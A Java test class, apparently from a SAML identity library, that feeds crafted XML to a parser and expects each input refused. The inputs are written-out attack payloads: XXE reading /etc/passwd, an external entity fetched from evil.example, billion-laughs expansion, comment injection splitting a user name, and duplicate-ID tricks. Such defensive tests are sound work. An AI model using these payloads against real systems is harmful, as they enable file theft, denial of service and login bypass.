package atlas.identity.saml;

/** What XML itself can be made to do. */
final class MarkupAttacks extends Forge {
    MarkupAttacks(TestIdp idp) {
        super(idp);
        markup();
        documents();
    }

    private void markup() {
        String both = answer().xml();
        refuse(
                "comment-cuts-the-name",
                "saml_comment",
                answer().with("name", "alice@evil.example")
                        .xml()
                        .replace(">alice@evil", ">alice<!-- -->@evil"));
        refuse(
                "comment-anywhere",
                "saml_comment",
                both.replace("</samlp:Status>", "</samlp:Status><!---->"));
        refuse("doctype", "saml_doctype", "<!DOCTYPE Response>" + both);
        refuse(
                "xxe-file",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + both.replace(">alice<", ">&x;<"));
        refuse(
                "xxe-parameter-entity",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>" + both);
        refuse(
                "billion-laughs",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
                        + both.replace(">alice<", ">&c;<"));
        refuse("entity-unknown", "saml_xml", both.replace(">alice<", ">&alice;<"));
        refuse(
                "processing-instruction",
                "saml_xml",
                both.replace("</samlp:Status>", "</samlp:Status><?x y?>"));
        refuse("id-twice", "saml_id_duplicate", both.replace("_response-1", "_assertion-1"));
        refuse(
                "id-spelled-another-way",
                "saml_id_duplicate",
                both.replaceFirst("<samlp:Status>", "<samlp:Status Id=\"_assertion-1\">"));
        refuse(
                "xml-id",
                "saml_id",
                both.replaceFirst("<samlp:Status>", "<samlp:Status xml:id=\"_assertion-1\">"));
    }

    private void documents() {
        String both = answer().xml();
        refuse(
                "deeply-nested",
                "saml_xml",
                both.replace(
                        "</samlp:Status>",
                        "<x>".repeat(200) + "</x>".repeat(200) + "</samlp:Status>"));
        refuse(
                "many-elements",
                "saml_size",
                both.replace("</samlp:Status>", "<x/>".repeat(6000) + "</samlp:Status>"));
        refuse("endless", "saml_size", both + " ".repeat(StrictXml.MAX_BYTES));
        refuse(
                "namespace-redefined",
                "saml_structure",
                both.replaceFirst(
                        "<samlp:Response xmlns:samlp=\"" + Names.PROTOCOL,
                        "<samlp:Response xmlns:samlp=\"" + Names.PROTOCOL + "x"));
        refuse(
                "saml-1-assertion",
                "saml_structure",
                answer().signed(true, false)
                        .xml()
                        .replace(Names.ASSERTION, "urn:oasis:names:tc:SAML:1.0:assertion"));
        refuse(
                "assertion-of-another-namespace",
                "saml_structure",
                own().sign(
                                answer().around(
                                                answer().assertion()
                                                        .replace(
                                                                Names.ASSERTION,
                                                                "urn:evil:assertion")),
                                "_response-1"));
        refuse("not-xml", "saml_xml", "SAMLResponse");
        refuse("json", "saml_xml", "{\"NameID\":\"alice\"}");
        refuse("utf-16", "saml_xml", "\uFEFF" + both);
        refuse(
                "two-documents",
                "saml_xml",
                both + answer().with("name", "mallory").signed(false, false).xml());
        refuse("element-in-the-name", "saml_text", answer().with("name", "<b>alice</b>").xml());
    }
}
